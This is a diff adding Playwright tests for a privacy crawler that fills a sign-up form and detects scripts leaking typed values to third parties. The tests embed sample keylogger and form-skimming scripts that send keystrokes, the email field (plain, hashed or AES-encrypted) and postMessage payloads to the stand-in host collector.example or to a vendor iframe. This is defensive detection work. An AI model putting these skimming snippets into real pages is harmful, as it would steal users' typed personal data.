@@ -1,0 +1,126 @@
+import { expect, test } from '@playwright/test';
+import { fillOn, formPage, type FillRun } from './fill-site.js';
+import type { Site } from './logging-server.js';
+
+const form = `<form action="/join" method="post"><label>E-mail <input type="email" name="email" id="email"></label>
+  <label>Full name <input name="name" id="name"></label><label>ZIP <input name="zip" id="zip" autocomplete="postal-code"></label><button>Join</button></form>`;
+const serve =
+  (script: string): Site =>
+  ({ path, host }) =>
+    path === '/' && host === 'www.mpro.org'
+      ? formPage(form, script)
+      : { body: 'ok', headers: { 'access-control-allow-origin': '*' } };
+const atCollector = ({ requests }: FillRun): string[] =>
+  requests.filter(({ host }) => host === 'collector.example').map(({ path, body }) => path + body);
+const send = (what: string): string => `fetch('https://collector.example/k?' + ${what}, { mode: 'no-cors' })`;
+const side = ({ filled }: FillRun) => filled.transmissions.filter(({ isSubmission }) => !isSubmission);
+
+for (const [name, script] of [
+  [
+    'one key a request',
+    `addEventListener('keydown', e => e.key.length === 1 && ${send(`'c=' + encodeURIComponent(e.key)`)})`,
+  ],
+  [
+    'one key code a request',
+    `addEventListener('keydown', e => e.key.length === 1 && ${send(`'c=' + e.key.charCodeAt(0)`)})`,
+  ],
+  [
+    'one key a path',
+    `addEventListener('keydown', e => e.key.length === 1 && fetch('https://collector.example/k/' + encodeURIComponent(e.key), { mode: 'no-cors' }))`,
+  ],
+  [
+    'one key a WebSocket message',
+    `const s = new WebSocket('wss://collector.example/s'); addEventListener('keydown', e => e.key.length === 1 && s.send(e.key))`,
+  ],
+] as const) {
+  test(`${name}: put together again and laid to the field, and none arrives`, async () => {
+    const run = await fillOn(serve(script));
+    const sighted = side(run).flatMap(({ sightings }) => sightings);
+    expect(sighted.map(({ encoding }) => encoding[0])).toContain('split');
+    expect(sighted.map(({ field }) => field)).toContain('#email');
+    // A dot is no path of its own: the browser takes it out.
+    expect(atCollector(run).filter(path => /^\/k(\/.|\?)/.test(path))).toEqual([]);
+    expect(run.raw.split('\n').filter(line => line.length === 1)).toEqual([]);
+  });
+}
+
+test('a value that grows with every key, hashed or not, does not leave while it grows', async () => {
+  const hash = `crypto.subtle.digest('SHA-1', new TextEncoder().encode(v)).then(d => ${send(`'h=' + btoa(String.fromCharCode(...new Uint8Array(d)))`)})`;
+  for (const script of [`'q=' + email.value`, `'q=' + btoa(email.value)`]
+    .map(send)
+    .concat(`const v = email.value; ${hash}`)) {
+    const run = await fillOn(serve(`email.addEventListener('input', () => { ${script} })`));
+    expect(side(run).flatMap(({ sightings }) => sightings.map(({ field }) => field))).toContain('#email');
+    expect(atCollector(run)).toEqual([]);
+  }
+});
+
+test('encrypted data to a third party after the first key is recorded as such and stopped; what was there before is not', async () => {
+  const key = `crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt'])`;
+  const encrypt = `${key}.then(k => crypto.subtle.encrypt({ name: 'AES-GCM', iv: new Uint8Array(12) }, k, new TextEncoder().encode(JSON.stringify({ v: email.value, pad: 'x'.repeat(60) }))))`;
+  const raw = await fillOn(
+    serve(
+      `email.addEventListener('blur', () => ${encrypt}.then(b => fetch('https://collector.example/k', { method: 'POST', mode: 'no-cors', body: b })))`,
+    ),
+  );
+  expect(side(raw).map(({ opaque, stopped, sightings }) => [opaque, stopped, sightings])).toEqual([
+    [true, true, []],
+  ]);
+  expect(atCollector(raw)).toEqual([]);
+  const token = `const token = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(90))));`;
+  const known = await fillOn(
+    serve(
+      `${token} const ping = () => fetch('https://collector.example/k', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ token, event: 'focus' }) }); ping(); email.addEventListener('blur', ping)`,
+    ),
+  );
+  expect(side(known)).toEqual([]);
+  expect(atCollector(known).length).toBeGreaterThan(1);
+});
+
+test('a short value that cannot be searched for does not leave as a whole parameter', async () => {
+  const run = await fillOn(
+    serve(`zip.addEventListener('blur', () => { ${send(`'z=' + zip.value`)}; ${send(`'n=12345'`)} })`),
+  );
+  expect(atCollector(run).filter(path => path !== '/k?n=12345')).toEqual([]);
+});
+
+test("a typed value handed to a third party's frame by a message", async () => {
+  const site: Site = request =>
+    request.host === 'vendor.test'
+      ? { body: '<!doctype html><title>widget</title>' }
+      : request.path === '/'
+        ? formPage(
+            `${form}<iframe src="https://vendor.test/w" title="Chat"></iframe>`,
+            `const w = document.querySelector('iframe').contentWindow; email.addEventListener('blur', () => email.value && w.postMessage({ kind: 'lead', mail: email.value }, '*')); name.onblur = () => w.postMessage('harmless', '*');`,
+          )
+        : { body: 'ok' };
+  const run = await fillOn(site);
+  expect(
+    side(run).map(({ channel, host, moment, sightings }) => [
+      channel,
+      host,
+      moment,
+      sightings.map(({ field }) => field),
+    ]),
+  ).toEqual([['post-message', 'vendor.test', 'blur', ['#email']]]);
+});
+
+test('never: nothing is submitted, and what scripts send is stopped', async () => {
+  const run = await fillOn(serve(`email.addEventListener('change', () => ${send(`'v=' + email.value`)})`), {
+    submit: 'never',
+  });
+  expect(run.filled.trials).toEqual([
+    { filled: 'full', result: 'not-tried', detail: 'SUBMIT=never', hops: [], refusedFields: [] },
+  ]);
+  expect(side(run).map(({ moment, stopped }) => [moment, stopped])).toEqual([['blur', true]]);
+  expect(atCollector(run)).toEqual([]);
+  expect(run.requests.filter(({ method }) => method === 'POST')).toEqual([]);
+});
+
+test('real: what goes to third parties is recorded and let through', async () => {
+  const run = await fillOn(serve(`email.addEventListener('change', () => ${send(`'v=' + email.value`)})`), {
+    submit: 'real',
+  });
+  expect(side(run).map(({ host, stopped }) => [host, stopped])).toEqual([['collector.example', false]]);
+  expect(atCollector(run).length).toBeGreaterThan(0);
+});
